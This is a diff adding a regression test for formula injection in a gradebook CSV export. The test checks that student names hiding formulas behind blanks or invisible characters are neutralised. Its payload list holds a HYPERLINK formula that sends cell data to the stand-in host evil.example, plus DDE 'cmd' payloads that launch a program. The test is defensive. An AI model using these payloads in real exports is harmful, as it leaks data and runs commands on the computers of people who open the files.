@@ -196,6 +196,29 @@ def test_csv_cells_are_never_formulas(course):
     assert row["student_id"].startswith("'=") and row["student_name"].startswith("'@")
 
 
+# A name is the student's own (Gradescope's profile, an LMS's display name): `storable` only, so it may
+# start with blanks, a line break or an invisible character before the formula.
+DISGUISED_FORMULAS = ["\n=HYPERLINK(\"https://evil.example/?\"&A2,\"open\")", " =1+1", "\u00a0\u00a0@SUM(A1:A9)",
+                      "\u200b=cmd|' /C calc'!A0", "\r\n+1+cmd|' /C calc'!A0", "\uff1d1+1", "\t -2+3"]
+
+
+def test_csv_cells_behind_blanks_are_never_formulas(course):
+    """spreadsheet_safe looked at the first character only: a name of a line break (or blanks, or a
+    zero-width space) and then `=HYPERLINK(...)` went into the gradebook CSV as it was. The
+    gradebook, the dashboard and the TA decisions now share one check that looks past them."""
+    client = course.client()
+    for number, name in enumerate(DISGUISED_FORMULAS):
+        wait_final(client, submit(client, assignment="hw6", student={"id": f"s{number}", "name": name}))
+    text = client.get("/v1/grades", params={"format": "csv"}).text
+    names = {row["student_id"]: row["student_name"] for row in csv.DictReader(io.StringIO(text))}
+    assert names == {f"s{n}": "'" + name for n, name in enumerate(DISGUISED_FORMULAS)}, names
+    honest = ["Zhang San", "李四", "O'Brien", "Ann-Marie", "x = 1"]
+    for number, name in enumerate(honest):
+        wait_final(client, submit(client, assignment="hw7", student={"id": f"h{number}", "name": name}))
+    text = client.get("/v1/grades", params={"format": "csv", "assignment": "hw7"}).text
+    assert [row["student_name"] for row in csv.DictReader(io.StringIO(text))] == honest, "honest names unchanged"
+
+
 def test_identity_keeps_idempotency_honest(course):
     client = course.client()
     key = f"k-{uuid.uuid4().hex}"
